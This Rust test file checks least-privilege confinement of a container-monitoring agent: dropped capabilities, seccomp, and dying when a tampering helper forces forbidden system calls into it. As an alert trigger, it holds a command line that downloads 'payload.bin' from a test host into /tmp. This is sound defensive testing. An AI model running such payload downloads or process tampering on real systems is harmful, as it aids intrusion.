//! Least privilege: what an agent and its keeper may do while they run, and what they do without.

use std::collections::BTreeMap;
use std::fs;
use std::os::unix::process::ExitStatusExt as _;
use std::path::Path;
use std::time::Duration;

use anyhow::{Context as _, Result, ensure};
use rustix::process::{Pid, Signal, kill_process};
use tests::agent::Agent;
use tests::child::bound;
use tests::wait;
use tests::world::World;

use crate::Case;
use crate::transfer::{ALERT_MAX, ensure_container};

/// Bits of include/uapi/linux/capability.h.
const DAC_READ_SEARCH: u64 = 1 << 2;
const NET_ADMIN: u64 = 1 << 12;
const SYS_PTRACE: u64 = 1 << 19;
const SYS_ADMIN: u64 = 1 << 21;
const PERFMON: u64 = 1 << 38;
const BPF: u64 = 1 << 39;
/// What the keeper has for as long as the agent runs.
const KEPT: u64 = DAC_READ_SEARCH | SYS_PTRACE | BPF | PERFMON | NET_ADMIN;
/// All that a start needs, and no more.
const FIVE: [&str; 5] = ["bpf", "perfmon", "net_admin", "sys_ptrace", "dac_read_search"];
/// The sets of a thread, as its status names them, but for that which counts when a program is executed.
const SETS: [&str; 4] = ["CapInh", "CapPrm", "CapEff", "CapAmb"];
/// From the keeper's end to the agent's.
const END_MAX: Duration = Duration::from_secs(5);
/// Private memory of the keeper.
const KEEPER_MAX_KIB: u64 = 4 * 1024;

const CURL: &[&str] = &["curl", "-sS", "-o", "/tmp/file", "http://10.201.0.1/download/payload.bin"];

pub(crate) fn cases() -> Vec<Case> {
    let without = |missing: &'static str, weakens: &'static str| {
        Case::new(format!("privilege: without CAP_{}", missing.to_uppercase()), move |world| {
            let weakened = starts_without(world, missing)?;
            ensure!(weakened.contains(weakens), "the coverage says {weakened:?}");
            Ok(weakened)
        })
    };
    vec![
        Case::new("privilege: every thread has given up the rest", has_given_up),
        Case::new("privilege: five capabilities are enough", five_are_enough),
        without("sys_ptrace", "programs that ran before the start"),
        without("dac_read_search", "names of containers of users"),
        never_starts_without("bpf"),
        never_starts_without("perfmon"),
        never_starts_without("net_admin"),
        Case::new("privilege: an agent that is made to start a program dies of it", dies_of_a_call),
        Case::new("privilege: a keeper that is made to open a socket dies of it", dies_with_its_keeper),
        Case::new("privilege: without its keeper the agent ends and says so", ends_with_its_keeper),
    ]
}

fn never_starts_without(missing: &'static str) -> Case {
    let name = format!("CAP_{}", missing.to_uppercase());
    Case::new(format!("privilege: without {name}"), move |world| {
        let rest: Vec<&str> = FIVE.into_iter().filter(|one| *one != missing).collect();
        let mut agent = with(world, missing, &rest)?;
        let status = agent.await_end(END_MAX)?;
        ensure!(status.code() == Some(2), "it ended with {status}");
        let log = agent.log()?;
        let sentence = log.lines().find(|line| line.contains("may not observe") && line.contains(&name));
        Ok(sentence.with_context(|| format!("it does not say why: {log}"))?.to_owned())
    })
}

/// Threads of a process, each with the fields of its status.
fn threads(pid: u32) -> Result<Vec<BTreeMap<String, String>>> {
    let entries = fs::read_dir(format!("/proc/{pid}/task")).context("listing threads")?;
    let mut all = Vec::new();
    for entry in entries {
        // One that ends meanwhile is none.
        let Ok(text) = fs::read_to_string(entry?.path().join("status")) else { continue };
        let fields = text.lines().filter_map(|line| line.split_once(":\t"));
        all.push(fields.map(|(key, value)| (key.to_owned(), value.trim().to_owned())).collect());
    }
    Ok(all)
}

/// Each thread of a process has no capability beyond these, cannot get any, and has its list of system calls.
fn ensure_confined(pid: u32, kept: u64) -> Result<usize> {
    let threads = threads(pid)?;
    ensure!(!threads.is_empty(), "process {pid} is gone");
    for thread in &threads {
        let field = |name: &str| thread.get(name).map(String::as_str).with_context(|| format!("no {name}"));
        for set in SETS {
            let bits = u64::from_str_radix(field(set)?, 16)?;
            ensure!(bits & !kept == 0, "{set} of {} is {bits:x}", field("Name")?);
        }
        ensure!(field("NoNewPrivs")? == "1" && field("Seccomp")? == "2", "{thread:?}");
    }
    Ok(threads.len())
}

fn keeper(agent: &Agent) -> Result<u32> {
    let path = format!("/proc/{0}/task/{0}/children", agent.id());
    // The kernel may lack that file (CONFIG_PROC_CHILDREN): then by the parents of all.
    if let Ok(children) = fs::read_to_string(&path)
        && let Some(child) = children.split_whitespace().next()
    {
        return Ok(child.parse()?);
    }
    for entry in fs::read_dir("/proc")?.flatten() {
        let status = fs::read_to_string(entry.path().join("status")).unwrap_or_default();
        if status.contains(&format!("\nPPid:\t{}\n", agent.id())) {
            return Ok(entry.file_name().to_string_lossy().parse()?);
        }
    }
    anyhow::bail!("the agent has no child");
}

/// Memory that only this process has, KiB.
fn private_kib(pid: u32) -> Result<u64> {
    let text = fs::read_to_string(format!("/proc/{pid}/smaps_rollup"))?;
    let rows = text.lines().filter(|line| line.starts_with("Private_"));
    rows.map(|row| Ok(row.split_whitespace().nth(1).context("a row without a number")?.parse::<u64>()?)).sum()
}

fn has_given_up(world: &World) -> Result<String> {
    let mut agent = world.another_agent("privilege", &["--syslog", "udp://localhost:9"])?;
    agent.await_ready()?;
    let container = world.container("privilege", CURL)?;
    container.run()?;
    let alert = agent.await_line(ALERT_MAX, "an alert", |line| line.is_alert_of(&container.id))?;
    ensure_container(&alert, &container)?;
    // Threads that look for names have been started by now.
    let threads = ensure_confined(agent.id(), 0)?;
    let keeper = keeper(&agent)?;
    let of_keeper = ensure_confined(keeper, KEPT | SYS_ADMIN)?;
    let bounding: Vec<_> = threads_field(agent.id(), "CapBnd")?;
    ensure!(bounding.iter().all(|set| u64::from_str_radix(set, 16) == Ok(0)), "CapBnd {bounding:?}");
    let private = private_kib(keeper)?;
    ensure!(private < KEEPER_MAX_KIB, "the keeper has {private} KiB of its own");
    ensure!(agent.stop()?.0.success(), "it ended otherwise than told");
    // Who reaps it may take a moment.
    let left = fs::read_to_string(format!("/proc/{keeper}/stat")).unwrap_or_default();
    ensure!(left.is_empty() || left.contains(") Z "), "it ended before its keeper: {left}");
    Ok(format!("{threads} threads with none, {of_keeper} of a keeper of {private} KiB"))
}

fn threads_field(pid: u32, name: &str) -> Result<Vec<String>> {
    Ok(threads(pid)?.into_iter().filter_map(|mut thread| thread.remove(name)).collect())
}

/// An agent that may do what these capabilities allow, and nothing else, though it is root.
fn with(world: &World, name: &str, capabilities: &[&str]) -> Result<Agent> {
    let set = capabilities.iter().map(|one| format!(",+{one}")).collect::<String>();
    let mut command = bound("setpriv");
    command.args(["--inh-caps", "-all", "--bounding-set", &format!("-all{set}")]).arg(world.binary());
    let folder = world.directory().join(format!("privilege-{name}"));
    fs::create_dir_all(&folder)?;
    let path = |name: &str| folder.join(name).display().to_string();
    let configuration = world.configuration().display().to_string();
    command.args([
        "run",
        "--format",
        "json",
        "--config",
        &configuration,
        "--control",
        &path("run/agent.sock"),
    ]);
    command.args(["--outbox", &path("outbox")]);
    Agent::start(command, folder.join("agent.log"))
}

fn five_are_enough(world: &World) -> Result<String> {
    let mut agent = with(world, "five", &FIVE)?;
    let ready = agent.await_ready()?;
    ensure!(!ready.document.to_string().contains("is missing"), "{}", ready.document);
    let container = world.container("five", CURL)?;
    container.run()?;
    let alert = agent.await_line(ALERT_MAX, "an alert", |line| line.is_alert_of(&container.id))?;
    ensure_container(&alert, &container)?;
    ensure_confined(agent.id(), 0)?;
    ensure_confined(keeper(&agent)?, KEPT)?;
    ensure!(agent.stop()?.0.success(), "it ended otherwise than told");
    Ok("named a container, without CAP_SYS_ADMIN and CAP_SYS_RESOURCE".to_owned())
}

/// Returns what the coverage says that this weakens.
fn starts_without(world: &World, missing: &str) -> Result<String> {
    let rest: Vec<&str> = FIVE.into_iter().filter(|one| *one != missing).collect();
    let mut agent = with(world, missing, &rest)?;
    let coverage = agent.await_ready()?;
    let hooks = coverage.document.pointer("/tidewaiter/coverage/hooks").and_then(|hooks| hooks.as_array());
    let word = format!("CAP_{} is missing", missing.to_uppercase());
    let row = hooks.and_then(|hooks| hooks.iter().find(|hook| hook.to_string().contains(&word)));
    let row = row.with_context(|| format!("nothing says {word}: {}", coverage.document))?;
    let weakened = row.to_string();
    let container = world.container(&missing.replace('_', "-"), CURL)?;
    container.run()?;
    agent.await_line(ALERT_MAX, "an alert", |line| line.is_alert_of(&container.id))?;
    ensure!(agent.stop()?.0.success(), "it ended otherwise than told");
    Ok(weakened)
}

fn ends_with_its_keeper(world: &World) -> Result<String> {
    let mut agent = world.another_agent("keeper", &[])?;
    agent.await_ready()?;
    let pid = Pid::from_raw(i32::try_from(keeper(&agent)?)?).context("a keeper of no number")?;
    kill_process(pid, Signal::KILL)?;
    let status = agent.await_end(END_MAX)?;
    ensure!(status.code() == Some(2), "it ended with {status}");
    let log = agent.log()?;
    let sentence = log.lines().find(|line| line.starts_with("tidewaiter: cannot go on"));
    Ok(sentence.with_context(|| format!("it does not say why: {log}"))?.to_owned())
}

/// Has a process do a system call, as somebody does who has taken it over.
fn force(pid: u32, call: i64) -> Result<()> {
    let mut deed = bound(Path::new(env!("CARGO_BIN_EXE_deed")));
    deed.args(["tamper", "call", "--target-pid", &pid.to_string(), "--id", &call.to_string()]);
    let output = deed.output()?;
    ensure!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    Ok(())
}

fn dies_of_a_call(world: &World) -> Result<String> {
    let mut agent = world.another_agent("forced", &[])?;
    agent.await_ready()?;
    // One that is on its list does no harm, where it answers what the one does that it is done in place of.
    force(agent.id(), libc::SYS_sched_yield)?;
    let container = world.container("forced", CURL)?;
    container.run()?;
    agent.await_line(ALERT_MAX, "an alert", |line| line.is_alert_of(&container.id))?;
    let keeper = keeper(&agent)?;
    force(agent.id(), libc::SYS_execve)?;
    let status = agent.await_end(END_MAX)?;
    ensure!(status.signal() == Some(libc::SIGSYS), "it ended with {status}");
    wait::until(END_MAX, "its keeper to end as well", || Ok((!is_there(keeper)).then_some(())))?;
    Ok(format!("{status}, and its keeper with it"))
}

fn dies_with_its_keeper(world: &World) -> Result<String> {
    let mut agent = world.another_agent("forced-keeper", &[])?;
    agent.await_ready()?;
    force(keeper(&agent)?, libc::SYS_socket)?;
    let status = agent.await_end(END_MAX)?;
    ensure!(status.code() == Some(2), "the agent ended with {status}");
    Ok("its agent ends with status 2".to_owned())
}

fn is_there(pid: u32) -> bool {
    Path::new(&format!("/proc/{pid}")).exists()
}
